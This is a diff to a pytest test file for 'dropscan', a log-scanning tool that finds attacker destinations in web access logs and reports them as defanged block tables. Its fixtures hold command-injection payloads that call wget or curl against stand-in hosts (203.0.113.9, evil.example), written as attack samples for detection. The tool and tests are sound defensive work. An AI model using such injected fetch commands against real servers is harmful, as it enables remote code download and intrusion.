@@ -15,7 +15,7 @@ from html.parser import HTMLParser
 import pytest
 
 import dropscan
-from conftest import SAMPLE_LOGS, combined_line
+from conftest import SAMPLE_LOGS, cli_run, combined_line
 from dropscan.cli import app
 from dropscan.render import html_report
 from dropscan.report import build_report
@@ -30,10 +30,6 @@ FLAGS = [
     "--disable-component-update",
     "--disable-sync",
 ]
-
-
-def run(runner, args, **kw):
-    return runner.invoke(app, args, catch_exceptions=False, **kw)
 
 
 @pytest.fixture(scope="module")
@@ -94,11 +90,11 @@ def test_block_table_lists_hosts_affected_and_confirmation(runner, tmp_path):
     a, b = tmp_path / "web1-access.log", tmp_path / "web2-access.log"
     a.write_bytes(combined_line("/?c=;wget%20http://203.0.113.9/x"))
     b.write_bytes(combined_line("/?c=;wget%20http://203.0.113.9/y") + combined_line("/?c=;curl%20evil.example/z"))
-    rep = json.loads(run(runner, ["report", str(a), str(b), "-f", "json"]).stdout)
+    rep = json.loads(cli_run(runner, ["report", str(a), str(b), "-f", "json"]).stdout)
     first = rep["destinations"][0]
     assert (first["host"], first["port"], first["scheme"], first["hosts"]) == ("203.0.113.9", 80, "http",
                                                                                 ["web1", "web2"])  # fmt: skip
-    doc = run(runner, ["report", str(a), str(b), "-f", "html"]).stdout
+    doc = cli_run(runner, ["report", str(a), str(b), "-f", "html"]).stdout
     row = re.search(r'<table id="block">.*?<tbody>(.*?)</tr>', doc, re.S).group(1)
     assert "203.0.113[.]9" in row and "web1, web2" in row and "reject v4" in row
 
@@ -117,13 +113,13 @@ def test_untimed_findings_are_counted_not_dropped(tmp_path):
 
 
 def test_markdown_and_html_defang_by_default_json_stays_exact(runner):
-    md = run(runner, ["report", str(SAMPLE_LOGS), "-f", "markdown"]).stdout
+    md = cli_run(runner, ["report", str(SAMPLE_LOGS), "-f", "markdown"]).stdout
     assert r"193.13.87\[.\]38" in md and "193.13.87.38" not in md
-    live = run(runner, ["report", str(SAMPLE_LOGS), "-f", "markdown", "--no-defang"]).stdout
+    live = cli_run(runner, ["report", str(SAMPLE_LOGS), "-f", "markdown", "--no-defang"]).stdout
     assert "193.13.87.38" in live
-    html = run(runner, ["report", str(SAMPLE_LOGS), "-f", "html"]).stdout
+    html = cli_run(runner, ["report", str(SAMPLE_LOGS), "-f", "html"]).stdout
     assert "hxxp://193.13.87[.]38" in html
-    js = run(runner, ["report", str(SAMPLE_LOGS), "-f", "json"]).stdout
+    js = cli_run(runner, ["report", str(SAMPLE_LOGS), "-f", "json"]).stdout
     assert "193.13.87.38" in js and "[.]" not in js
 
 
